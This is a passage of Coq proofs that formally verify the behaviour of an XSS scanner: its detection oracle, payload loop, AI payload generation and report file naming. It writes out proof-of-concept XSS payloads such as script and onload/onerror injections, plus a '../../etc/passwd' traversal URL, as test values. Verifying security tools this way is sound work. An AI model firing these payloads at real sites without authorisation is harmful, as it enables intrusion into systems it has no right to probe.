    by rewrite (bind_ok _ _ _ _ _ Hr), bind_say.
Qed.

(** A server that answers every request with a page not found that
    reflects the parameter [q]. *)
Lemma error_status_counts_as_no_response_witness :
  (_test_payload
     (Engine.init "http://target/" "GET" true
        (fun _ req => Replied
           {| status_code := 404;
              text := "<p>" +:+ default EmptyString (params req !! "q") +:+ "</p>";
              url := "http://target/"; header_content_type := None |}))
     "q" "<script>alert(1)</script>" ∅ counting_world).1 = Ok None.
Proof.
  refine (proj1 (error_status_counts_as_no_response
    (Engine.init "http://target/" "GET" true
        (fun _ req => Replied
           {| status_code := 404;
              text := "<p>" +:+ default EmptyString (params req !! "q") +:+ "</p>";
              url := "http://target/"; header_content_type := None |}))
     "q" ∅ counting_world _) "<script>alert(1)</script>").
  intros value. eexists. split; [reflexivity |]. simpl. lia.
Defined.

(** X7.  An exception of the session that is neither a timeout nor a
    request exception is not caught: it leaves [_send_request], it ends
    the payload loop at the payload whose request raised it, and it ends
    the scan of the parameter when the probe request raised it. *)
Theorem other_exceptions_propagate (self : XSSEngine) (e : exn) :
  ~ transport_failure e ->
  (forall params w,
     network self (sent w) (request_of self params) = Failed e ->
     (_send_request self params w).1 = Raise e) /\
  (forall param context base_params payload rest w,
     network self (sent w) (request_of self (<[param := payload]> base_params))
       = Failed e ->
     (test_payloads self param context base_params (payload :: rest) w).1 = Raise e) /\
  (forall cls param base_params w,
     (forall probe,
        network self (sent w) (request_of self (<[param := probe]> base_params))
          = Failed e) ->
     (scan_parameter self cls param base_params w).1 = Raise e).
Proof.
  intros Hother.
  assert (forall params w,
            network self (sent w) (request_of self params) = Failed e ->
            exists w', _send_request self params w = (Raise e, w')) as Hsend.
  { intros params w Hnet. unfold _send_request, mbind, M_bind, bind. simpl.
    rewrite Hnet. destruct e; simpl; eauto.
    - exfalso. apply Hother. by left.
    - exfalso. apply Hother. right. eauto. }
  split; [| split].
  - intros params w Hnet. by destruct (Hsend params w Hnet) as (w' & ->).
  - intros param context base_params payload rest w Hnet. cbn [test_payloads].
    destruct (Hsend _ w Hnet) as (w' & Hs).
    unfold _test_payload.
    by rewrite (bind_raise _ _ _ _ _ (bind_raise _ _ _ _ _ Hs)).
  - intros cls param base_params w Hnet.
    unfold scan_parameter. rewrite !bind_say. unfold _test_reflection.
    destruct (generate_probe_total (say InjectingProbe (say (TestingParameter param) w).2).2)
      as (probe & w1 & Hp & Hs1 & _).
    simpl in Hs1.
    destruct (Hsend (<[param := probe]> base_params) w1) as (w2 & Hs);
      [rewrite Hs1; apply Hnet |].
    erewrite bind_raise; [done |].
    rewrite (bind_ok _ _ _ _ _ Hp). by rewrite (bind_raise _ _ _ _ _ Hs).
Qed.

Lemma other_exceptions_propagate_witness :
  ~ transport_failure (OtherException "UnicodeError") /\
  (scan_parameter
     (Engine.init "http://target/" "GET" true
        (fun _ _ => Failed (OtherException "UnicodeError")))
     no_ai "q" ∅ counting_world).1 = Raise (OtherException "UnicodeError").
Proof.
  assert (~ transport_failure (OtherException "UnicodeError")) as Hother
    by (intros [H | [msg H]]; discriminate).
  split; [exact Hother |].
  refine (proj2 (proj2 (other_exceptions_propagate
    (Engine.init "http://target/" "GET" true
        (fun _ _ => Failed (OtherException "UnicodeError")))
    (OtherException "UnicodeError") Hother)) no_ai "q" ∅ counting_world _).
  intros probe. reflexivity.
Defined.

(** ** The oracle and the catalog together *)

Lemma replace_char_absent (old : ascii) (new s : string) :
  mem_char old s = false -> replace_char old new s = s.
Proof.
  induction s as [| c s IH]; simpl; [done |].
  rewrite Ascii.eqb_sym. destruct (Ascii.eqb c old); simpl; [done |].
  intros H. by rewrite IH.
Qed.

(** X8.  For a payload without a double quote the comparison with the
    encoded form decides nothing: the oracle accepts such a payload
    exactly when the body holds one of its tokens, whether the payload is
    reflected or not. *)
Theorem oracle_on_quote_free_payloads (response_text payload : string) :
  mem_char dq_char payload = false ->
  exploited response_text payload
  = existsb (fun token => contains token (lower response_text)) triggers.
Proof.
  intros Hfree. unfold exploited. rewrite (replace_char_absent _ _ _ Hfree).
  rewrite orb_negb_r, andb_true_r. reflexivity.
Qed.

Lemma oracle_on_quote_free_payloads_witness :
  mem_char dq_char "<svg onload=confirm(1)>" = false /\
  exploited "<html><button onclick=alert('hi')>never reflected</button></html>"
            "<svg onload=confirm(1)>" = true.
Proof.
  split; [reflexivity |].
  rewrite (oracle_on_quote_free_payloads
             "<html><button onclick=alert('hi')>never reflected</button></html>"
             "<svg onload=confirm(1)>" eq_refl).
  reflexivity.
Defined.

Lemma lower_app (a b : string) : lower (a +:+ b) = lower a +:+ lower b.
Proof.
  induction a as [| c a IH]; [reflexivity |].
  rewrite append_cons. simpl. rewrite IH. reflexivity.
Qed.

Lemma contains_lower (a b : string) :
  contains a b = true -> contains (lower a) (lower b) = true.
Proof.
  rewrite !contains_spec. intros (front & rest & ->).
  exists (lower front), (lower rest). by rewrite !lower_app.
Qed.

Lemma contains_trans (a b c : string) :
  contains a b = true -> contains b c = true -> contains a c = true.
Proof.
  rewrite !contains_spec. intros (f1 & r1 & ->) (f2 & r2 & ->).
  exists (f2 +:+ f1), (r1 +:+ r2). by rewrite !append_assoc.
Qed.

(** Every trigger of the catalog shows a token of the oracle. *)
Lemma trigger_shows_a_token (trigger : string) :
  trigger ∈ JS_TRIGGERS ->
  exists token, token ∈ triggers /\ contains token (lower trigger) = true.
Proof.
  unfold JS_TRIGGERS. intros H.
  repeat (apply elem_of_cons in H as [-> | H]);
    [ exists "alert(" | exists "alert(" | exists "alert`" | exists "confirm("
    | exists "prompt(" | exists "print(" | by apply not_elem_of_nil in H ];
    (split; [| reflexivity]);
    unfold triggers; repeat (first [apply list_elem_of_here | apply list_elem_of_further]).
Qed.

(** X9.  Catalog and oracle agree on verbatim reflection: whatever the
    context and whichever trigger was drawn, a response that holds a
    payload of the catalog as it was sent makes the oracle accept that
    payload. *)
Theorem reflected_catalog_payload_is_accepted (context : PyVal)
    (trigger payload response_text : string) :
  trigger ∈ JS_TRIGGERS ->
  payload ∈ traditional_payloads context trigger ->
  contains payload response_text = true ->
  exploited response_text payload = true.
Proof.
  intros Ht Hp Hreflected. unfold exploited.
  rewrite Hreflected, orb_true_l, andb_true_r.
  apply existsb_triggers.
  destruct (trigger_shows_a_token _ Ht) as (token & Hin & Htoken).
  exists token. split; [done |].
  eapply contains_trans; [exact Htoken |].
  apply contains_lower.
  eapply contains_trans; [| exact Hreflected].
  by eapply traditional_payloads_embed_trigger.
Qed.

Lemma reflected_catalog_payload_is_accepted_witness :
  "print()" ∈ JS_TRIGGERS /\
  "'-print()-'" ∈ traditional_payloads (VCtx SCRIPT_STRING) "print()" /\
  contains "'-print()-'" "<script>var q = ''-print()-'';</script>" = true /\
  exploited "<script>var q = ''-print()-'';</script>" "'-print()-'" = true.
Proof.
  assert ("print()" ∈ JS_TRIGGERS) as Ht
    by (unfold JS_TRIGGERS; repeat (first [apply list_elem_of_here | apply list_elem_of_further])).
  assert ("'-print()-'" ∈ traditional_payloads (VCtx SCRIPT_STRING) "print()") as Hp
    by (unfold traditional_payloads; simpl;
        repeat (first [apply list_elem_of_here | apply list_elem_of_further])).
  split; [exact Ht |]. split; [exact Hp |]. split; [reflexivity |].
  exact (reflected_catalog_payload_is_accepted (VCtx SCRIPT_STRING) "print()"
           "'-print()-'" "<script>var q = ''-print()-'';</script>" Ht Hp eq_refl).
Defined.

(** ** The payload loop *)

(** What [_test_payload] returns, by what the request comes to: the URL
    of a response that is no error and that the oracle accepts, [None]
    for any other response and for the two failures [_send_request]
    absorbs, and the exception for any other failure. *)
Lemma test_payload_cases (self : XSSEngine) (param payload : string)
    (base_params : gmap string string) (w : World) :
  exists result w',
    _test_payload self param payload base_params w = (result, w') /\
    sent w' = (sent w ++ [request_of self (<[param := payload]> base_params)])%list /\
    findings_count w' = findings_count w /\
    reporter_findings w' = reporter_findings w /\
    match network self (sent w) (request_of self (<[param := payload]> base_params)) with
    | Replied response =>
        result = Ok (if ok response && exploited (text response) payload
                     then Some (url response) else None)
    | Failed Timeout | Failed (RequestException _) => result = Ok None
    | Failed e => result = Raise e
    end.
Proof.
  destruct (test_payload_sends_one self param payload base_params w)
    as (result & w' & Htest & Hs & Hc & Hr).
  exists result, w'. do 4 (split; [done |]).
  revert Htest.
  unfold _test_payload, _send_request, mbind, M_bind, bind. simpl.
  destruct (network self (sent w) _) as [response | e]; simpl.
  - destruct (ok response); simpl; [destruct (exploited _ _) |];
      by intros [= <- _].
  - destruct e; simpl; by intros [= <- _].
Qed.

(** X10.  The loop over the payloads of a context sends the requests of
    the first [n] payloads, in the order of the list, and then stops.  It
    ends in its [break] only after the request of payload [n], when that
    request got a response that is no error, that the oracle accepts for
    the payload and whose URL is not empty: then the counter has gone up
    by one and the reporter, when there is one, has got one finding more,
    made of the parameter, that payload, the context and the URL of that
    response.  It ends in an exception only when the request of payload
    [n] failed in a way [_send_request] does not absorb.  When it runs
    through the whole list, or ends in an exception, nothing is recorded.
    Every payload it went past was passed over: the hit is the first. *)
Theorem test_payloads_records_the_hit (self : XSSEngine) (param : string)
    (context : InjectionContext) (base_params : gmap string string)
    (payloads : list string) (w : World) :
  exists result w' n,
    test_payloads self param context base_params payloads w = (result, w') /\
    sent w' = (sent w ++ map (fun payload =>
                 request_of self (<[param := payload]> base_params))
                 (take n payloads))%list /\
    match result with
    | Ok true =>
        exists payload response,
          payloads !! (n - 1)%nat = Some payload /\ (1 <= n)%nat /\
          network self
            (sent w ++ map (fun payload =>
               request_of self (<[param := payload]> base_params))
               (take (n - 1) payloads))%list
            (request_of self (<[param := payload]> base_params))
            = Replied response /\
          ok response = true /\
          exploited (text response) payload = true /\
          truthy (url response) = true /\
          findings_count w' = S (findings_count w) /\
          reporter_findings w' =
            (reporter_findings w ++
             (if reporter self
              then [ {| f_param := param; f_payload := payload;
                        f_context := value context; f_url := url response |} ]
              else []))%list
    | Ok false =>
        n = List.length payloads /\
        findings_count w' = findings_count w /\
        reporter_findings w' = reporter_findings w
    | Raise e =>
        (exists payload,
           payloads !! (n - 1)%nat = Some payload /\ (1 <= n)%nat /\
           network self
             (sent w ++ map (fun payload =>
                request_of self (<[param := payload]> base_params))
                (take (n - 1) payloads))%list
             (request_of self (<[param := payload]> base_params))
             = Failed e /\
           ~ transport_failure e) /\
        findings_count w' = findings_count w /\
        reporter_findings w' = reporter_findings w
    end /\
    (forall j payload,
       payloads !! j = Some payload ->
       (j < n - 1)%nat \/ result = Ok false ->
       passed_over self param base_params
         (sent w ++ map (fun payload =>
            request_of self (<[param := payload]> base_params))
            (take j payloads))%list payload = true).
Proof.
  revert w. induction payloads as [| payload rest IH]; intros w.
  - exists (Ok false), w, 0%nat. simpl. rewrite app_nil_r.
    do 3 (split; [done |]). intros j p Hl. done.
  - cbn [test_payloads].
    destruct (test_payload_cases self param payload base_params w)
      as (tres & w1 & Htest & Hs & Hc & Hr & Hnet).
    assert (passed_over self param base_params (sent w) payload = true ->
      exists result w' n,
      test_payloads self param context base_params rest w1 = (result, w') /\
      sent w' = (sent w ++ map (fun payload =>
                   request_of self (<[param := payload]> base_params))
                   (take n (payload :: rest)))%list /\
      match result with
      | Ok true =>
          exists payload0 response,
            (payload :: rest) !! (n - 1)%nat = Some payload0 /\ (1 <= n)%nat /\
            network self
              (sent w ++ map (fun payload =>
                 request_of self (<[param := payload]> base_params))
                 (take (n - 1) (payload :: rest)))%list
              (request_of self (<[param := payload0]> base_params))
              = Replied response /\
            ok response = true /\
            exploited (text response) payload0 = true /\
            truthy (url response) = true /\
            findings_count w' = S (findings_count w) /\
            reporter_findings w' =
              (reporter_findings w ++
               (if reporter self
                then [ {| f_param := param; f_payload := payload0;
                          f_context := value context; f_url := url response |} ]
                else []))%list
      | Ok false =>
          n = List.length (payload :: rest) /\
          findings_count w' = findings_count w /\
          reporter_findings w' = reporter_findings w
      | Raise e =>
          (exists payload0,
             (payload :: rest) !! (n - 1)%nat = Some payload0 /\ (1 <= n)%nat /\
             network self
               (sent w ++ map (fun payload =>
                  request_of self (<[param := payload]> base_params))
                  (take (n - 1) (payload :: rest)))%list
               (request_of self (<[param := payload0]> base_params))
               = Failed e /\
             ~ transport_failure e) /\
          findings_count w' = findings_count w /\
          reporter_findings w' = reporter_findings w
      end /\
      (forall j payload0,
         (payload :: rest) !! j = Some payload0 ->
         (j < n - 1)%nat \/ result = Ok false ->
         passed_over self param base_params
           (sent w ++ map (fun payload =>
              request_of self (<[param := payload]> base_params))
              (take j (payload :: rest)))%list payload0 = true)) as Hrest.
    { intros Hpass.
      destruct (IH w1) as (result & w' & n & Hloop & Hs' & Hres & Hearlier).
      exists result, w', (S n). split; [done |]. split.
      { rewrite Hs', Hs. simpl. by rewrite <- app_assoc. }
      split.
      { rewrite <- Hc, <- Hr. destruct result as [[|] | e].
        - destruct Hres as (p0 & response & Hl & Hn & Hnet0 & Hres).
          exists p0, response.
          destruct n as [| n]; [lia |]. simpl in *. rewrite Nat.sub_0_r in *.
          rewrite Hs, <- app_assoc in Hnet0.
          split; [done |]. split; [lia |]. split; [exact Hnet0 | exact Hres].
        - destruct Hres as (-> & Hres). done.
        - destruct Hres as ((p0 & Hl & Hn & Hnet0 & Hnt) & Hres).
          split; [| done]. exists p0.
          destruct n as [| n]; [lia |]. simpl in *. rewrite Nat.sub_0_r in *.
          rewrite Hs, <- app_assoc in Hnet0.
          split; [done |]. split; [lia |]. split; [exact Hnet0 | exact Hnt]. }
      intros j p Hl Hj. destruct j as [| j].
      - simpl in Hl. injection Hl as <-. simpl. by rewrite app_nil_r.
      - simpl in Hl. simpl. rewrite cons_middle, app_assoc, <- Hs.
        apply Hearlier; [done |].
        destruct Hj as [Hj | ->]; [left; lia | by right]. }
    destruct (network self (sent w) (request_of self (<[param := payload]> base_params)))
      as [response | e] eqn:Hn.
    + subst tres. rewrite (bind_ok _ _ _ _ _ Htest).
      destruct (ok response && exploited (text response) payload) eqn:Hacc.
      * destruct (truthy (url response)) eqn:Htr.
        -- apply andb_true_iff in Hacc as [Hok Hex].
           exists (Ok true).
           destruct (reporter self); simpl;
             (eexists _, 1%nat; split; [reflexivity |]; simpl;
              rewrite Hs, Hc, Hr; split; [reflexivity |];
              split; [exists payload, response; rewrite ?app_nil_r; done |];
              intros j p _ [Hj | Hj]; [lia | discriminate]).
        -- apply Hrest. unfold passed_over. by rewrite Hn, Hacc, Htr.
      * apply Hrest. unfold passed_over. by rewrite Hn, Hacc.
    + destruct e; subst tres;
        try (rewrite (bind_ok _ _ _ _ _ Htest); apply Hrest;
             unfold passed_over; by rewrite Hn);
        (rewrite (bind_raise _ _ _ _ _ Htest);
         eexists (Raise _), w1, 1%nat; split; [reflexivity |]; simpl;
         rewrite Hs; split; [reflexivity |];
         split;
           [ split; [| done]; eexists; rewrite app_nil_r;
             split; [reflexivity |]; split; [lia |]; split; [exact Hn |];
             intros [H | [? H]]; discriminate
           | intros j p _ [Hj | Hj]; [lia | discriminate] ]).
Qed.

(** On the server that reflects [q] in a paragraph, a payload without a
    trigger is passed over and the next one is the hit: two requests, one
    finding, with the URL of the second response. *)
Example loop_on_the_echo_server :
  let run := test_payloads echo_engine "q" HTML_TEXT ∅
               [ "hello"; "<svg onload=alert(1)>"; "<script>alert(1)</script>" ]
               counting_world in
  run.1 = Ok true /\
  map params (sent run.2)
    = [ {[ "q" := "hello" ]}; {[ "q" := "<svg onload=alert(1)>" ]} ] /\
  findings_count run.2 = 1%nat /\
  reporter_findings run.2
    = [ {| f_param := "q"; f_payload := "<svg onload=alert(1)>";
           f_context := "HTML Text Node";
           f_url := "http://target/?q=<svg onload=alert(1)>" |} ].
Proof. repeat split; vm_compute; reflexivity. Qed.

(** ** The AI payloads *)

(** X11.  [generate] hands its arguments to [generate_ai_payloads] in the
    wrong places, so that a snippet that is a text never reaches the
    model: with the AI enabled or not, and whatever the model would
    answer, [generate] returns the fixed payloads of the context and
    nothing else. *)
Theorem generate_never_adds_ai_payloads (cls : PayloadGenerator)
    (context : PyVal) (html_snippet : string) (w : World) :
  generate cls context (VStr html_snippet) w
  = generate PayloadGenerator_initial context (VStr html_snippet) w /\
  exists trigger,
    trigger ∈ JS_TRIGGERS /\
    (generate cls context (VStr html_snippet) w).1
      = Ok (traditional_payloads context trigger).
Proof.
  destruct (generate_eq cls context (VStr html_snippet) w) as (t1 & Hl1 & Hin & ->).
  destruct (generate_eq PayloadGenerator_initial context (VStr html_snippet) w)
    as (t2 & Hl2 & _ & ->).
  assert (t1 = t2) as <- by congruence.
  rewrite !generate_ai_payloads_text_context, app_nil_r.
  split; [reflexivity |]. by exists t1.
Qed.

Lemma NoDup_unique (l : list string) : NoDup (unique l).
Proof.
  induction l as [| x l IH]; simpl; [constructor |].
  constructor.
  - intros H. apply list_elem_of_filter in H as [H _]. done.
  - by apply NoDup_filter.
Qed.

(** X12.  The AI payloads, when [generate_ai_payloads] is called as its
    signature asks: five at most and no two alike, whatever the model
    answers; and none at all while the AI is not enabled or has no
    model. *)
Theorem ai_payloads_are_few_and_distinct (cls : PayloadGenerator)
    (param_name context : PyVal) (html_snippet response_snippet : string) :
  (List.length (generate_ai_payloads cls param_name context html_snippet response_snippet)
   <= 5)%nat /\
  NoDup (generate_ai_payloads cls param_name context html_snippet response_snippet) /\
  (gemini_enabled cls && bool_decide (is_Some (gemini_model cls)) = false ->
   generate_ai_payloads cls param_name context html_snippet response_snippet = []).
Proof.
  split; [apply generate_ai_payloads_at_most_5 |].
  unfold generate_ai_payloads.
  destruct (gemini_enabled cls); simpl; [| split; [constructor | done]].
  destruct (gemini_model cls) as [model |]; simpl; [| split; [constructor | done]].
  split; [| intros H; cbv in H; discriminate].
  destruct (value_of context); [| constructor].
  destruct (model _) as [[| ? ?] |]; try constructor.
  unfold extract_payloads.
  eapply sublist_NoDup; [apply NoDup_unique | apply sublist_take].
Qed.

Lemma ai_payloads_are_few_and_distinct_witness :
  generate_ai_payloads
    {| gemini_model :=
         Some (fun _ => Some ("<svg onload=alert(1)>" +:+ NL +:+ "<svg onload=alert(1)>"
                              +:+ NL +:+ "# a remark" +:+ NL +:+ "<img src=x onerror=alert(1)>"));
       gemini_enabled := true |}
    (VStr "q") (VCtx HTML_TEXT) "<p>probe</p>" EmptyString
  = ["<svg onload=alert(1)>"; "<img src=x onerror=alert(1)>"] /\
  generate_ai_payloads
    {| gemini_model := None; gemini_enabled := true |}
    (VStr "q") (VCtx HTML_TEXT) "<p>probe</p>" EmptyString = [].
Proof.
  split; [vm_compute; reflexivity |].
  apply (ai_payloads_are_few_and_distinct
           {| gemini_model := None; gemini_enabled := true |}
           (VStr "q") (VCtx HTML_TEXT) "<p>probe</p>" EmptyString).
  reflexivity.
Defined.

(** X13.  [initialize_gemini] keeps the class consistent: the AI is never
    enabled without a model.  It returns [True] only when it has enabled
    the AI with a model built for a key that is not empty; when it
    returns [False] it has either left the class as it was (so that an
    AI enabled earlier stays enabled) or disabled the AI. *)
Theorem initialize_gemini_keeps_a_model (genai : GeminiLibrary)
    (cls : PayloadGenerator) (api_key : option string) :
  (gemini_enabled cls = true -> is_Some (gemini_model cls)) ->
  (gemini_enabled (initialize_gemini genai cls api_key).2 = true ->
   is_Some (gemini_model (initialize_gemini genai cls api_key).2)) /\
  ((initialize_gemini genai cls api_key).1 = true ->
   GEMINI_AVAILABLE genai = true /\
   gemini_enabled (initialize_gemini genai cls api_key).2 = true /\
   exists key, key ≠ EmptyString /\
     (api_key = Some key \/ GEMINI_API_KEY genai = Some key) /\
     configure_model genai key = gemini_model (initialize_gemini genai cls api_key).2) /\
  ((initialize_gemini genai cls api_key).1 = false ->
   (initialize_gemini genai cls api_key).2 = cls \/
   gemini_enabled (initialize_gemini genai cls api_key).2 = false).
Proof.
  intros Hinv. unfold initialize_gemini.
  destruct (GEMINI_AVAILABLE genai); simpl;
    [| split; [done | split; [done | auto]]].
  destruct (key_or_env api_key (GEMINI_API_KEY genai)) as [[| c key] |] eqn:Hkey;
    simpl; [split; [done | split; [done | auto]] |
           | split; [done | split; [done | auto]]].
  destruct (configure_model genai (String c key)) as [model |] eqn:Hmodel; simpl.
  - split; [eauto |]. split; [| done]. intros _. split; [done |]. split; [done |].
    exists (String c key). split; [done |]. split; [| done].
    unfold key_or_env in Hkey. destruct api_key as [[| ? ?] |]; auto.
  - split; [done |]. split; [done |]. auto.
Qed.

Lemma initialize_gemini_keeps_a_model_witness :
  (gemini_enabled PayloadGenerator_initial = true ->
   is_Some (gemini_model PayloadGenerator_initial)) /\
  (initialize_gemini
     {| GEMINI_AVAILABLE := true; GEMINI_API_KEY := Some "k";
        configure_model := fun _ => Some (fun _ => None) |}
     PayloadGenerator_initial (Some EmptyString)).1 = true /\
  is_Some (gemini_model
    (initialize_gemini
       {| GEMINI_AVAILABLE := true; GEMINI_API_KEY := Some "k";
          configure_model := fun _ => Some (fun _ => None) |}
       PayloadGenerator_initial (Some EmptyString)).2).
Proof.
  assert (gemini_enabled PayloadGenerator_initial = true ->
          is_Some (gemini_model PayloadGenerator_initial)) as Hinv by discriminate.
  split; [exact Hinv |]. split; [reflexivity |].
  apply (initialize_gemini_keeps_a_model
           {| GEMINI_AVAILABLE := true; GEMINI_API_KEY := Some "k";
              configure_model := fun _ => Some (fun _ => None) |}
           PayloadGenerator_initial (Some EmptyString) Hinv).
  reflexivity.
Defined.

(** ** Probes and the random source *)

Lemma string_of_list_ascii_inj (a b : list ascii) :
  string_of_list_ascii a = string_of_list_ascii b -> a = b.
Proof.
  intros H. rewrite <- (list_ascii_of_string_of_list_ascii a),
    <- (list_ascii_of_string_of_list_ascii b). by rewrite H.
Qed.

(** X14.  Two runs of [_generate_probe] give the same probe exactly when
    their random sources pick the same twelve characters: the alphabet
    has no letter twice, so that different picks never collide. *)
Theorem probes_collide_only_on_equal_picks (w1 w2 : World) :
  (_generate_probe w1).1 = (_generate_probe w2).1 <->
  forall i, (i < 12)%nat -> (rng w1 i mod 36 = rng w2 i mod 36)%nat.
Proof.
  destruct (choices_total probe_alphabet 12 w1) as (s1 & w1' & H1 & L1 & _ & _);
    [discriminate |].
  destruct (choices_total probe_alphabet 12 w2) as (s2 & w2' & H2 & L2 & _ & _);
    [discriminate |].
  unfold _generate_probe, mbind, M_bind, bind. rewrite H1, H2. simpl fst.
  assert (NoDup probe_alphabet) as Hnodup
    by (apply (bool_decide_unpack (NoDup probe_alphabet)); vm_compute; exact I).
  assert (forall i, (i < 12)%nat ->
            s1 !! i = probe_alphabet !! (rng w1 i mod 36)%nat /\
            s2 !! i = probe_alphabet !! (rng w2 i mod 36)%nat) as Hpick.
  { intros i Hi. split.
    - apply (choices_lookup _ _ _ _ _ _ H1 Hi).
    - apply (choices_lookup _ _ _ _ _ _ H2 Hi). }
  split.
  - intros [= H]. apply string_of_list_ascii_inj in H. subst s2.
    intros i Hi. destruct (Hpick i Hi) as [Ha Hb]. rewrite Ha in Hb.
    assert (rng w1 i mod 36 < 36)%nat as Hlt by (apply Nat.mod_upper_bound; lia).
    destruct (lookup_lt_is_Some_2 probe_alphabet (rng w1 i mod 36)%nat) as [c Hc];
      [exact Hlt |].
    rewrite Hc in Hb. symmetry in Hb. eapply NoDup_lookup; eauto.
  - intros H. assert (s1 = s2) as ->; [| done]. apply list_eq. intros i.
    destruct (decide (i < 12)%nat) as [Hi | Hi].
    + destruct (Hpick i Hi) as [-> ->]. by rewrite (H i Hi).
    + rewrite !lookup_ge_None_2; [done | lia | lia].
Qed.

(** ** The report file *)

Lemma mem_char_app (c : ascii) (a b : string) :
  mem_char c (a +:+ b) = mem_char c a || mem_char c b.
Proof.
  induction a as [| d a IH]; [reflexivity |].
  rewrite append_cons. simpl. rewrite IH. by rewrite orb_assoc.
Qed.

Lemma mem_char_strip_by (c : ascii) (drop : ascii -> bool) (s : string) :
  mem_char c s = false -> mem_char c (strip_by drop s) = false.
Proof.
  unfold strip_by. intros H.
  destruct (lstrip_by_suffix drop s) as [front Hs].
  destruct (rstrip_by_prefix drop (lstrip_by drop s)) as [dropped Hd].
  rewrite Hs, Hd, !mem_char_app in H.
  apply orb_false_elim in H as [_ H]. by apply orb_false_elim in H as [H _].
Qed.

Lemma kept_char_is_no_slash (c : ascii) :
  Ascii.eqb "/"%char
    (if Reporter.word_char c || mem_char c "-." then c else "_"%char) = false.
Proof.
  destruct (ascii_dec c "/"%char) as [-> | Hne]; [reflexivity |].
  destruct (_ || _); [| reflexivity]. apply Ascii.eqb_neq. congruence.
Qed.

Lemma underscore_others_no_slash (domain : string) :
  mem_char "/"%char (Reporter.underscore_others domain) = false.
Proof.
  induction domain as [| c domain IH]; [reflexivity |].
  cbn [Reporter.underscore_others mem_char]. rewrite IH, orb_false_r.
  exact (kept_char_is_no_slash c).
Qed.

(** X15.  Whatever file name and target URL the reporter is built with,
    and whatever the URL parser makes of the URL, the path of the report
    starts with [reports/]. *)
Theorem report_path_starts_with_reports (urlparse : string -> option (string * string))
    (timestamp filename target_url : string) :
  startswith "reports/" (Reporter.init_filename urlparse timestamp filename target_url)
  = true.
Proof.
  unfold Reporter.init_filename. destruct target_url as [| c u].
  - destruct (startswith "reports/" filename) eqn:E; cbn [negb].
    + exact E.
    + apply startswith_app.
  - apply startswith_app.
Qed.

(** X16.  A report named after the target is written into [reports/]
    itself: the name generated from the URL holds no path separator,
    whatever the URL is and whatever its host or path look like, provided
    the time stamp holds none. *)
Theorem generated_report_name_has_no_separator
    (urlparse : string -> option (string * string))
    (timestamp filename target_url : string) :
  target_url ≠ EmptyString ->
  mem_char "/"%char timestamp = false ->
  exists name,
    Reporter.init_filename urlparse timestamp filename target_url = "reports/" +:+ name /\
    mem_char "/"%char name = false.
Proof.
  intros Hurl Hstamp. destruct target_url as [| c u]; [done |].
  exists (Reporter._generate_filename urlparse timestamp (String c u)).
  split; [reflexivity |]. unfold Reporter._generate_filename.
  destruct (urlparse (String c u)) as [[netloc path] |].
  - rewrite !mem_char_app, Hstamp. unfold strip_chars.
    rewrite (mem_char_strip_by _ _ _ (underscore_others_no_slash _)). reflexivity.
  - rewrite !mem_char_app, Hstamp. reflexivity.
Qed.

Lemma generated_report_name_has_no_separator_witness :
  "http://../../etc/passwd" ≠ EmptyString /\
  mem_char "/"%char "2026-01-02_03-04-05" = false /\
  exists name,
    Reporter.init_filename (fun _ => Some (EmptyString, "../../etc/passwd"))
      "2026-01-02_03-04-05" "xss_report.html" "http://../../etc/passwd"
    = "reports/" +:+ name /\
    mem_char "/"%char name = false.
Proof.
  split; [discriminate |]. split; [reflexivity |].
  apply (generated_report_name_has_no_separator
           (fun _ => Some (EmptyString, "../../etc/passwd"))
           "2026-01-02_03-04-05" "xss_report.html" "http://../../etc/passwd");
    [discriminate | reflexivity].
Defined.

Example report_name_of_a_hostile_url :
  Reporter.init_filename (fun _ => Some (EmptyString, "../../etc/passwd"))
    "2026-01-02_03-04-05" "xss_report.html" "http://../../etc/passwd"
  = "reports/xss-report_2026-01-02_03-04-05_.._.._etc_passwd.html".
Proof. reflexivity. Qed.

(** ** The fixed payloads of a context *)

Lemma cons_append_length (c : ascii) (a b d : string) :
  String c a = b +:+ d ->
  S (String.length a) = (String.length b + String.length d)%nat.
Proof. intros H. apply (f_equal String.length) in H. by rewrite length_append in H. Qed.

(** Two filled templates that are the same text: compare them letter by
    letter, then by length. *)
Ltac same_text H :=
  repeat rewrite append_cons in H; repeat rewrite append_nil_l in H;
  repeat (first [ discriminate H | injection H as H ]);
  first
    [ discriminate H
    | apply String.app_inj in H; discriminate H
    | apply (f_equal String.length) in H;
      repeat (first [ rewrite length_append in H | progress cbn [String.length] in H ]);
      lia ].

Ltac not_among :=
  let H := fresh "H" in
  intros H;
  repeat (apply elem_of_cons in H as [H | H]; [same_text H |]);
  by apply not_elem_of_nil in H.

(** X17.  The fixed payloads of a context are pairwise different,
    whatever the trigger: the payload loop never sends the same fixed
    payload twice for one context. *)
Theorem fixed_payloads_are_distinct (context : InjectionContext) (trigger : string) :
  NoDup (payload_map context trigger).
Proof.
  destruct context; unfold payload_map, _html_text_payloads, _double_quote_payloads,
    _single_quote_payloads, _unquoted_attr_payloads, _attr_name_payloads,
    _script_block_payloads, _script_string_payloads, _style_block_payloads,
    _html_comment_payloads, _json_payloads, _url_param_payloads, DQ;
    repeat (constructor; [not_among |]); constructor.
Qed.
